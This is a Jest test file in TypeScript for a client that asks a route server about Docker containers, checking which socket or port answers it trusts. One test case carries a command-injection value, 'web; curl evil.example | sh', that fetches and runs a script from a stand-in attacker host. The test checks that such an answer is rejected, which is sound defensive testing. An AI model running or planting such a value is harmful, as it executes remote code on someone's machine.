import { afterEach, beforeEach, expect, test } from '@jest/globals'
import { askAbout } from './ask-about.ts'
import { routeServerInPlace } from './testing/route-server-in-place.ts'

let place: ReturnType<typeof routeServerInPlace>
beforeEach(() => {
  place = routeServerInPlace()
})
afterEach(() => place.close())

const CONTAINER = {
  id: 'a'.repeat(64),
  image: 'web',
  network: 64,
  daemon: '/tmp/docker-64.sock',
  created: '2026-01-02T03:04:05.000Z',
  state: 'running',
  status: 'Up',
  health: 'none',
  networkMode: 'host',
  presence: 'serving',
  labels: [],
  made: [],
  served: [],
  diagnostics: [],
}

const factsOf = (name: string) => ({
  question: { text: 'web' },
  traefikApi: 'http://127.0.0.1:9000',
  runsForSeconds: 1,
  document: { revision: 1, secondsOld: 1 },
  fetches: {},
  containers: [{ ...CONTAINER, name }],
  routers: [],
  more: 0,
  claims: [],
  daemons: [],
  notices: [],
})

test('the private socket is asked, and its daemons are believed', async () => {
  await place.answerOnSocket(200, { facts: factsOf('of-the-socket') })
  expect(await askAbout('/explain?about=web', place.stateDir)).toEqual({
    facts: factsOf('of-the-socket'),
    traefikApi: 'http://127.0.0.1:9000',
    daemons: ['/tmp/docker-64.sock'],
  })
})

test('on the word of whoever answers at the port nobody is asked: no daemon, and no API', async () => {
  await place.answerOnSocket(200, { facts: factsOf('of-the-socket') })
  await place.answerOnPort(200, { facts: factsOf('of-the-port') })
  expect(await askAbout('/explain?about=web', place.stateDir)).toEqual({ facts: factsOf('of-the-port'), daemons: [] })
})

test.each([
  ['something else', { hello: 'world' }],
  ['no list of containers', { facts: { ...factsOf('web'), containers: 1 } }],
  ['a name that would be a command', { facts: factsOf('web; curl evil.example | sh') }],
  [
    'a socket that would be one',
    { facts: { ...factsOf('web'), containers: [{ ...CONTAINER, name: 'web', daemon: '/a b' }] } },
  ],
])('whoever answers at the port with %s is no route server', async (_, body) => {
  await place.answerOnPort(200, body)
  await expect(askAbout('/explain?about=web', place.stateDir)).rejects.toThrow(
    /^Whoever answers there is no route server/,
  )
})
